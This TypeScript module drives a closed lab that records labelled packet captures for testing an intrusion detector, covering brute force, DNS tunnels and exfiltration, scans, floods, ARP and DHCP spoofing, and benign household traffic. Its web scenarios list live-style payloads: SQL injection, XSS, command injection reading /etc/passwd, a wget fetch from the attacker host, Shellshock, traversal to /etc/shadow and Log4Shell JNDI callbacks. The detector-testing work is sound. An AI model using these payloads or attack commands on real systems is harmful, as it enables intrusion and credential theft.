/**
 * How each recorded CASES.tsv row is played in the lab: which servers it needs, which host runs the
 * tool, how much of it the capture keeps, and (for rows that are more than one command) the steps.
 * A row without steps runs `tool options` (with $NAS, $GW, ... filled in) on its host.
 */
import { chmodSync, writeFileSync } from "node:fs";
import { DNS2TCP_DOMAIN, HOSTS, type Host, IODINE_DOMAIN, type Lab, LAN, type Server, TUN, TUNNEL_SECRET, WEB_IPS } from "./lab.ts";

export interface Row {
  id: string;
  tool: string;
  options: string;
  /** A threat type ("a|b": either), or "benign". */
  expect: string;
  /** The source IP or MAC the threat must name ("-" for benign rows). */
  source: string;
  /** Target IP or IP:port ("-": not checked). */
  target: string;
  /** Under captures/, or corpus:<path in ../shared/pcaps>. */
  pcap: string;
  /** "ok", or "known-miss: reason". */
  status: string;
}

export interface Scenario {
  servers: Server[];
  host: Host;
  /** Bytes kept per packet, and packets kept, so each pcap stays small. */
  snap: number;
  count: number;
  /** Preparation before the servers start and the capture begins (names the router resolves, files to serve). */
  before?: (lab: Lab, row: Row) => Promise<void>;
  /** The row's steps; default: run `tool options` on `host`. */
  steps?: (lab: Lab, row: Row) => Promise<void>;
}

/** Lab variables usable in CASES.tsv options. */
export function vars(lab: Lab): Record<string, string> {
  return {
    NAS: HOSTS.nas.ip, GW: HOSTS.gw.ip, ATTACKER: HOSTS.attacker.ip, GWMAC: HOSTS.gw.mac, NASMAC: HOSTS.nas.mac,
    WORDS: `${lab.work}/words.txt`, WORDS9: `${lab.work}/words9.txt`, WORK: lab.work, IODINE: IODINE_DOMAIN,
    DNS2TCP: DNS2TCP_DOMAIN, SECRET: TUNNEL_SECRET, TUN: TUN,
  };
}
export const fill = (s: string, v: Record<string, string>) => s.replace(/\$([A-Z0-9]+)/g, (m, k) => v[k] ?? m);

/** Deterministic pseudo-random generator (names differ per row, but a re-recording gives the same list). */
function rng(seed: number) {
  let x = seed >>> 0 || 1;
  return () => ((x ^= x << 13), (x ^= x >>> 17), (x ^= x << 5), (x >>> 0) / 2 ** 32);
}
const pick = (r: () => number, alphabet: string, n: number) => Array.from({ length: n }, () => alphabet[Math.floor(r() * alphabet.length)]).join("");

/** DGA-like names: random letters under common TLDs (the router answers NXDOMAIN for all of them). */
export function dgaNames(n: number, seed: number): string[] {
  const r = rng(seed);
  const tlds = ["com", "net", "org", "info", "biz", "ru", "top", "xyz", "cn"];
  return Array.from({ length: n }, () => `${pick(r, "abcdefghijklmnopqrstuvwxyz", 8 + Math.floor(r() * 9))}.${tlds[Math.floor(r() * tlds.length)]}`);
}

/** Names a household resolves: sites, and CDN edge names whose labels look random but resolve fine. */
export const SITES = ["www.google.com", "www.youtube.com", "www.netflix.com", "api.spotify.com", "www.bbc.co.uk",
  "en.wikipedia.org", "www.amazon.com", "github.com", "www.reddit.com", "mail.google.com", "outlook.office365.com",
  "www.apple.com", "weather.com", "news.ycombinator.com", "www.instagram.com", "www.facebook.com", "web.whatsapp.com",
  "store.steampowered.com", "www.twitch.tv", "docs.python.org"];
export function cdnNames(n: number, seed: number): string[] {
  const r = rng(seed);
  const hex = "0123456789abcdef", alnum = "abcdefghijklmnopqrstuvwxyz0123456789";
  const shapes = [
    () => `r${1 + Math.floor(r() * 8)}---sn-${pick(r, alnum, 8)}.googlevideo.com`,
    () => `e${pick(r, "0123456789", 5)}.a.akamaiedge.net`,
    () => `d${pick(r, alnum, 13)}.cloudfront.net`,
    () => `scontent-${pick(r, "abcdefghijklmnopqrstuvwxyz", 3)}${1 + Math.floor(r() * 3)}-1.xx.fbcdn.net`,
    () => `${pick(r, hex, 32)}.safeframe.googlesyndication.com`,
    () => `ipv4-c${pick(r, "0123456789", 3)}-${pick(r, "abcdefghijklmnopqrstuvwxyz", 3)}001-ix.1.oca.nflxvideo.net`,
    () => `${pick(r, alnum, 10)}.cdn.jsdelivr.net`,
    () => `i${pick(r, "0123456789", 1)}.ytimg.com`,
  ];
  return Array.from({ length: n }, (_, i) => shapes[i % shapes.length]());
}

export function registerNames(lab: Lab, names: string[]): void {
  names.forEach((n, i) => lab.names.set(n, WEB_IPS[i % WEB_IPS.length]));
}

/** Waits until a tunnel interface in a namespace has an address (iodine), or gives up. */
async function waitTunnel(lab: Lab, h: Host, ms: number): Promise<boolean> {
  const until = Date.now() + ms;
  while (Date.now() < until) {
    if ((await lab.run(h, "ip -4 addr show dev dns0 2>/dev/null")).includes("inet ")) return true;
    await Bun.sleep(300);
  }
  return false;
}

function words(lab: Lab): void {
  lab.file("words.txt", Array.from({ length: 30 }, (_, i) => `guess${String(i).padStart(2, "0")}`).join("\n") + "\n");
  lab.file("words9.txt", Array.from({ length: 9 }, (_, i) => `slow${i}`).join("\n") + "\n");
}

const runRow = (host: Host) => async (lab: Lab, row: Row) => {
  await lab.run(host, `${row.tool} ${fill(row.options, vars(lab))}`, 240_000);
};

const attack = (servers: Server[], snap = 256, count = 4000): Scenario => ({ servers, host: "attacker", snap, count });

const iodine = (type: string | null): Scenario => ({
  servers: ["iodined"], host: "attacker", snap: 512, count: 1800,
  steps: async (lab, row) => {
    lab.daemon("inet", ["socat", "-u", "TCP-LISTEN:9000,reuseaddr,fork", "OPEN:/dev/null"]);
    lab.daemon("attacker", ["sh", "-c", `${row.tool} ${fill(row.options, vars(lab))}`]);
    if (!(await waitTunnel(lab, "attacker", 20_000))) throw new Error(`${row.id}: the iodine tunnel did not come up (type ${type ?? "auto"})`);
    await lab.run("attacker", `ping -c 5 -i 0.3 ${TUN}.1; head -c 40000 /dev/urandom | timeout 40 socat -u - TCP:${TUN}.1:9000`, 60_000);
  },
});

/** curl against the NAS's lighttpd: every path once with each header set (or once plain); no shell in between. */
function web(paths: string[], headers: string[][] = [[]]): Scenario {
  return {
    servers: ["lighttpd"], host: "attacker", snap: 1024, count: 600,
    steps: async (lab) => {
      const v = vars(lab);
      for (const p of paths) {
        for (const h of headers) {
          await lab.exec("attacker", ["curl", "-s", "-o", "/dev/null", "--path-as-is", "-g", ...h.map((x) => fill(x, v)), `http://${v.NAS}${fill(p, v)}`]);
        }
      }
    },
  };
}

const flood = (opts: Partial<Scenario> = {}): Scenario => ({ servers: ["lighttpd"], host: "attacker", snap: 64, count: 3200, ...opts });

const pingFirst = async (lab: Lab) => {
  await lab.run("nas", `ping -c 2 -i 0.3 ${HOSTS.gw.ip}`);
  await lab.run("laptop", `ping -c 2 -i 0.3 ${HOSTS.gw.ip}`);
};

/** The ordinary background of a LAN while an attack runs: ARP, DNS, a ping. */
const curlLoop = (names: string[], scheme: string, path: string, extra = "") =>
  names.map((n) => `curl -s -k -o /dev/null --max-time 5 ${extra} ${scheme}://${n}${path}`).join("; ");

export const SCENARIOS: Record<string, Scenario> = {
  "ssh-hydra-t1": attack(["sshd"]),
  "ssh-hydra-t4": attack(["sshd"]),
  "ssh-hydra-t16": attack(["sshd"]),
  "ssh-medusa": attack(["sshd"]),
  "ssh-ncrack": attack(["sshd"]),
  "ssh-patator": attack(["sshd"]),
  "ssh-hydra-slow": attack(["sshd"]),
  "ftp-hydra": attack(["vsftpd"]),
  "ftp-medusa": attack(["vsftpd"]),
  "telnet-hydra": attack(["telnetd"]),
  "http-basic-hydra": attack(["lighttpd"], 1024),
  "http-basic-medusa": attack(["lighttpd"], 1024),
  "iodine-null": iodine("NULL"),
  "iodine-txt": iodine("TXT"),
  "iodine-cname": iodine("CNAME"),
  "iodine-a": iodine("A"),
  "iodine-default": iodine(null),
  "dns2tcp-txt": {
    servers: ["dns2tcpd"], host: "attacker", snap: 512, count: 1800,
    steps: async (lab, row) => {
      lab.daemon("attacker", ["sh", "-c", `${row.tool} ${fill(row.options, vars(lab))}`]);
      await Bun.sleep(2000);
      await lab.run("attacker", "head -c 30000 /dev/urandom | timeout 40 socat -u - TCP:127.0.0.1:4444", 60_000);
    },
  },
  "dns-tcp-exfil": {
    servers: [], host: "attacker", snap: 256, count: 2500,
    steps: async (lab, row) => {
      // 6 kB of "stolen" data as base32 labels of 60 characters, each one query over one kept-open TCP connection.
      await lab.run("attacker", `head -c 6000 /dev/urandom | base32 -w 60 | tr -d = | tr A-Z a-z | awk '{print $0 ".x.exfil.test"}' > ${lab.work}/exfil.txt`);
      await lab.run("attacker", `${row.tool} ${fill(row.options, vars(lab))}`, 120_000);
    },
  },
  "dga-30": { servers: [], host: "attacker", snap: 256, count: 2000, steps: dga(30, 30) },
  "dga-60": { servers: [], host: "attacker", snap: 256, count: 2000, steps: dga(60, 60) },
  "dga-300": { servers: [], host: "attacker", snap: 192, count: 2000, steps: dga(300, 300) },
  "nmap-sS": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-sT": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-sU": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-sA": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-sN": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-sF": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-sX": attack(["sshd", "lighttpd"], 96, 4000),
  "nmap-T1": attack(["sshd", "lighttpd"], 96, 4000),
  "masscan": attack(["sshd", "lighttpd"], 96, 4000),
  "syn-flood": flood(),
  "syn-flood-rand-source": flood(),
  "udp-flood": flood(),
  "icmp-flood": flood(),
  "arpspoof": {
    servers: [], host: "attacker", snap: 128, count: 2000,
    steps: async (lab) => {
      await pingFirst(lab);
      await lab.run("attacker", `timeout -s INT 10 arpspoof -i eth0 -t ${HOSTS.nas.ip} ${HOSTS.gw.ip}`, 20_000);
    },
  },
  "ettercap-arp": {
    servers: [], host: "attacker", snap: 128, count: 3000,
    steps: async (lab) => {
      await pingFirst(lab);
      await lab.run("attacker", `timeout -s INT 15 ettercap -T -q -i eth0 -M arp:remote /${HOSTS.nas.ip}// /${HOSTS.gw.ip}// </dev/null`, 30_000);
    },
  },
  "rogue-dhcp": {
    servers: ["dhcp"], host: "attacker", snap: 512, count: 2000,
    steps: async (lab) => {
      // The household's client takes a lease from the router first; then a second server appears.
      await lab.run("client", "busybox udhcpc -i eth0 -f -q -n -t 4 -T 1 -s /bin/true", 20_000);
      lab.daemon("attacker", ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--bind-interfaces",
        `--dhcp-range=${LAN}.200,${LAN}.250,255.255.255.0,1h`, `--dhcp-option=3,${HOSTS.attacker.ip}`, `--dhcp-option=6,${HOSTS.attacker.ip}`,
        `--dhcp-leasefile=${lab.work}/rogue.leases`, `--pid-file=${lab.work}/rogue.pid`, "--no-ping", "--dhcp-authoritative"]);
      await Bun.sleep(1500);
      for (let i = 0; i < 2; i++) await lab.run("client", "busybox udhcpc -i eth0 -f -q -n -t 4 -T 1 -s /bin/true", 20_000);
    },
  },
  "rogue-ra": {
    servers: ["ra"], host: "attacker", snap: 256, count: 2000,
    steps: async (lab) => {
      await Bun.sleep(6000); // the router's own advertisements
      await lab.run("attacker", "ip addr add fd66::66/64 dev eth0 nodad");
      lab.daemon("attacker", ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--bind-interfaces",
        "--enable-ra", "--dhcp-range=fd66::,ra-only,64", `--pid-file=${lab.work}/rogue-ra.pid`]);
      await Bun.sleep(3000);
      // Hosts joining the link solicit routers: both answer.
      for (const h of ["client", "phone"] as Host[]) {
        await lab.run(h, "ip link set eth0 down; ip link set eth0 up");
        await Bun.sleep(4000);
      }
    },
  },
  "web-sqli": web([`/products.php?id=1'+OR+'1'='1`, "/products.php?id=1+UNION+SELECT+username,password+FROM+users--",
    "/login.php?user=admin'--&pass=x", "/item?id=1;+DROP+TABLE+users"]),
  "web-xss": web(["/search?q=<script>alert(document.cookie)</script>", "/comment?text=<img+src=x+onerror=alert(1)>",
    `/profile?name="><svg/onload=alert('xss')>`]),
  "web-rce": web(["/cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd", "/index.php?cmd=|id", "/run?exec=$(wget+http://$ATTACKER/x.sh)"],
    [[], ["-A", `() { :; }; /bin/bash -c "cat /etc/passwd"`]]),
  "web-traversal": web(["/../../../../etc/passwd", "/download?file=../../../../etc/shadow", "/static/..%2f..%2f..%2fetc%2fpasswd"]),
  "web-jndi": web(["/", "/login"], [["-A", "${jndi:ldap://$ATTACKER:1389/Exploit}"], ["-H", "X-Api-Version: ${jndi:ldap://$ATTACKER:1389/a}"]]),

  "benign-browsing": {
    servers: ["web"], host: "laptop", snap: 1024, count: 3000,
    before: async (lab) => registerNames(lab, SITES),
    steps: async (lab) => {
      await lab.run("laptop", curlLoop(SITES, "https", "/index.html", "-A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'"), 120_000);
      await lab.run("laptop", curlLoop(SITES.slice(0, 6), "http", "/index.html"), 60_000);
    },
  },
  "benign-video": {
    servers: ["web"], host: "tv", snap: 96, count: 3500,
    before: async (lab) => {
      registerNames(lab, ["video.nflxvideo.net", "www.netflix.com"]);
      await lab.run("inet", `mkdir -p ${lab.work}/inet-www && head -c 40000000 /dev/urandom > ${lab.work}/inet-www/segment.mp4`);
    },
    steps: async (lab) => {
      await lab.run("tv", "curl -s -k -o /dev/null https://www.netflix.com/index.html; curl -s -k -o /dev/null https://video.nflxvideo.net/segment.mp4", 120_000);
    },
  },
  "benign-updates": {
    servers: ["web"], host: "laptop", snap: 128, count: 3500,
    before: async (lab) => {
      registerNames(lab, ["deb.debian.org", "security.debian.org"]);
      await lab.run("inet", `mkdir -p ${lab.work}/inet-www && cd ${lab.work}/inet-www && mkdir -p debian/dists/bookworm/main/binary-amd64 debian/pool && ` +
        `head -c 150000 /dev/urandom > debian/dists/bookworm/InRelease && head -c 3000000 /dev/urandom > debian/dists/bookworm/main/binary-amd64/Packages.xz && ` +
        `for p in openssl libssl3 tzdata curl libcurl4; do head -c 700000 /dev/urandom > debian/pool/$p.deb; done`);
    },
    steps: async (lab) => {
      const ua = "-A 'Debian APT-HTTP/1.3 (2.6.1)'";
      const urls = ["deb.debian.org/debian/dists/bookworm/InRelease", "security.debian.org/debian/dists/bookworm/InRelease",
        "deb.debian.org/debian/dists/bookworm/main/binary-amd64/Packages.xz",
        ...["openssl", "libssl3", "tzdata", "curl", "libcurl4"].map((p) => `deb.debian.org/debian/pool/${p}.deb`)];
      await lab.run("laptop", urls.map((u) => `curl -s -o /dev/null ${ua} http://${u}`).join("; "), 120_000);
    },
  },
  "benign-mdns-ssdp": {
    servers: [], host: "phone", snap: 512, count: 2000,
    steps: async (lab) => {
      const mdnsQuery = (name: string) => {
        // A DNS query (id 0, one question, PTR, class IN with the QU bit clear) as mDNS sends it.
        const labels = name.split(".").map((l) => `\\${l.length.toString(8).padStart(3, "0")}${l}`).join("");
        return `printf '\\000\\000\\000\\000\\000\\001\\000\\000\\000\\000\\000\\000${labels}\\000\\000\\014\\000\\001'`;
      };
      const mdns = (h: Host, name: string) => `${mdnsQuery(name)} | socat -u - UDP4-DATAGRAM:224.0.0.251:5353,sourceport=5353,reuseaddr,ip-multicast-ttl=255`;
      const ssdp = (st: string) => `printf 'M-SEARCH * HTTP/1.1\\r\\nHOST: 239.255.255.250:1900\\r\\nMAN: "ssdp:discover"\\r\\nMX: 1\\r\\nST: ${st}\\r\\nUSER-AGENT: Android/14 UPnP/1.1 Chromecast/1.0\\r\\n\\r\\n' | socat -u - UDP4-DATAGRAM:239.255.255.250:1900`;
      const notify = `printf 'NOTIFY * HTTP/1.1\\r\\nHOST: 239.255.255.250:1900\\r\\nCACHE-CONTROL: max-age=1800\\r\\nLOCATION: http://${HOSTS.tv.ip}:8008/ssdp/device-desc.xml\\r\\nNT: upnp:rootdevice\\r\\nNTS: ssdp:alive\\r\\nSERVER: Linux/4.9 UPnP/1.0 SmartTV/2.0\\r\\nUSN: uuid:4d696e69-444c-164e-9d41-b827eb3a2c11::upnp:rootdevice\\r\\n\\r\\n' | socat -u - UDP4-DATAGRAM:239.255.255.250:1900`;
      for (let round = 0; round < 6; round++) {
        await lab.run("phone", [mdns("phone", "_googlecast._tcp.local"), mdns("phone", "_airplay._tcp.local"), mdns("phone", "_spotify-connect._tcp.local"),
          ssdp("urn:dial-multiscreen-org:service:dial:1"), ssdp("ssdp:all")].join("; "));
        await lab.run("tv", [notify, mdns("tv", "_googlecast._tcp.local")].join("; "));
        await lab.run("laptop", mdns("laptop", "_companion-link._tcp.local"));
        await Bun.sleep(2500);
      }
    },
  },
  "benign-nas-backup": {
    servers: ["sshd"], host: "laptop", snap: 128, count: 3500,
    before: async (lab) => {
      await lab.run("laptop", `head -c 25000000 /dev/urandom > ${lab.work}/photos.tar`);
    },
    steps: async (lab) => {
      const ssh = `-i ${lab.work}/clientkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes`;
      await lab.run("laptop", `scp ${ssh} ${lab.work}/photos.tar root@${HOSTS.nas.ip}:${lab.work}/backup.tar`, 120_000);
    },
  },
  "benign-cdn-names": {
    servers: ["web"], host: "phone", snap: 1024, count: 3000,
    before: async (lab) => registerNames(lab, cdnNames(80, 80)),
    steps: async (lab) => {
      const names = cdnNames(80, 80);
      writeFileSync(`${lab.work}/cdn.txt`, names.join("\n") + "\n");
      await lab.run("phone", `dig @${HOSTS.gw.ip} +tries=1 +time=2 -f ${lab.work}/cdn.txt > /dev/null`, 60_000);
      await lab.run("phone", curlLoop(names.slice(0, 12), "https", "/index.html"), 60_000);
    },
  },
  "benign-dns-typos": {
    servers: ["web"], host: "laptop", snap: 256, count: 2000,
    before: async (lab) => registerNames(lab, SITES),
    steps: async (lab) => {
      // A person browsing: most names resolve, a dozen typos and stale names do not (NXDOMAIN).
      const typos = ["gogle.com", "youtub.com", "netflx.com", "amazn.com", "facebok.com", "wikipedia.rg.com", "githb.com",
        "redit.com", "old-printer-setup.net", "intranet-legacy.org", "wpad.info", "mail.gogle.com"];
      const names = SITES.flatMap((n, i) => (typos[i] ? [n, typos[i]] : [n]));
      for (let i = 0; i < names.length; i += 4) {
        await lab.run("laptop", `dig @${HOSTS.gw.ip} +tries=1 +time=1 ${names.slice(i, i + 4).join(" ")} > /dev/null`);
        await Bun.sleep(1500);
      }
    },
  },
  "benign-vpn": {
    servers: [], host: "laptop", snap: 96, count: 3500,
    steps: async (lab) => {
      lab.daemon("inet", ["socat", `UDP4-LISTEN:51820,bind=${WEB_IPS[30]},reuseaddr`, "PIPE"]);
      await Bun.sleep(300);
      const gen = lab.file("vpn.sh", "i=0; while [ $i -lt 700 ]; do head -c 148 /dev/urandom; sleep 0.04; i=$((i+1)); done\n");
      chmodSync(gen, 0o755);
      await lab.run("laptop", `sh ${gen} | socat - UDP4:${WEB_IPS[30]}:51820,sourceport=51820 > /dev/null`, 90_000);
    },
  },
  "benign-console": {
    servers: [], host: "console", snap: 96, count: 3500,
    steps: async (lab) => {
      for (const ip of WEB_IPS.slice(31, 34)) lab.daemon("inet", ["socat", `UDP4-LISTEN:3074,bind=${ip},reuseaddr`, "PIPE"]);
      await Bun.sleep(300);
      const gen = lab.file("game.sh", "i=0; while [ $i -lt 400 ]; do head -c 90 /dev/urandom; sleep 0.03; i=$((i+1)); done\n");
      await lab.run("console", WEB_IPS.slice(31, 34).map((ip) => `sh ${gen} | socat - UDP4:${ip}:3074,sourceport=3074,reuseaddr > /dev/null &`).join(" ") + " wait", 90_000);
    },
  },
};

function dga(n: number, seed: number) {
  return async (lab: Lab, row: Row) => {
    writeFileSync(`${lab.work}/dga.txt`, dgaNames(n, seed).join("\n") + "\n");
    await lab.run("attacker", `${row.tool} ${fill(row.options, vars(lab))}`, 120_000);
  };
}

export function prepare(lab: Lab): void {
  words(lab);
}

export function runScenario(s: Scenario): (lab: Lab, row: Row) => Promise<void> {
  return s.steps ?? runRow(s.host);
}
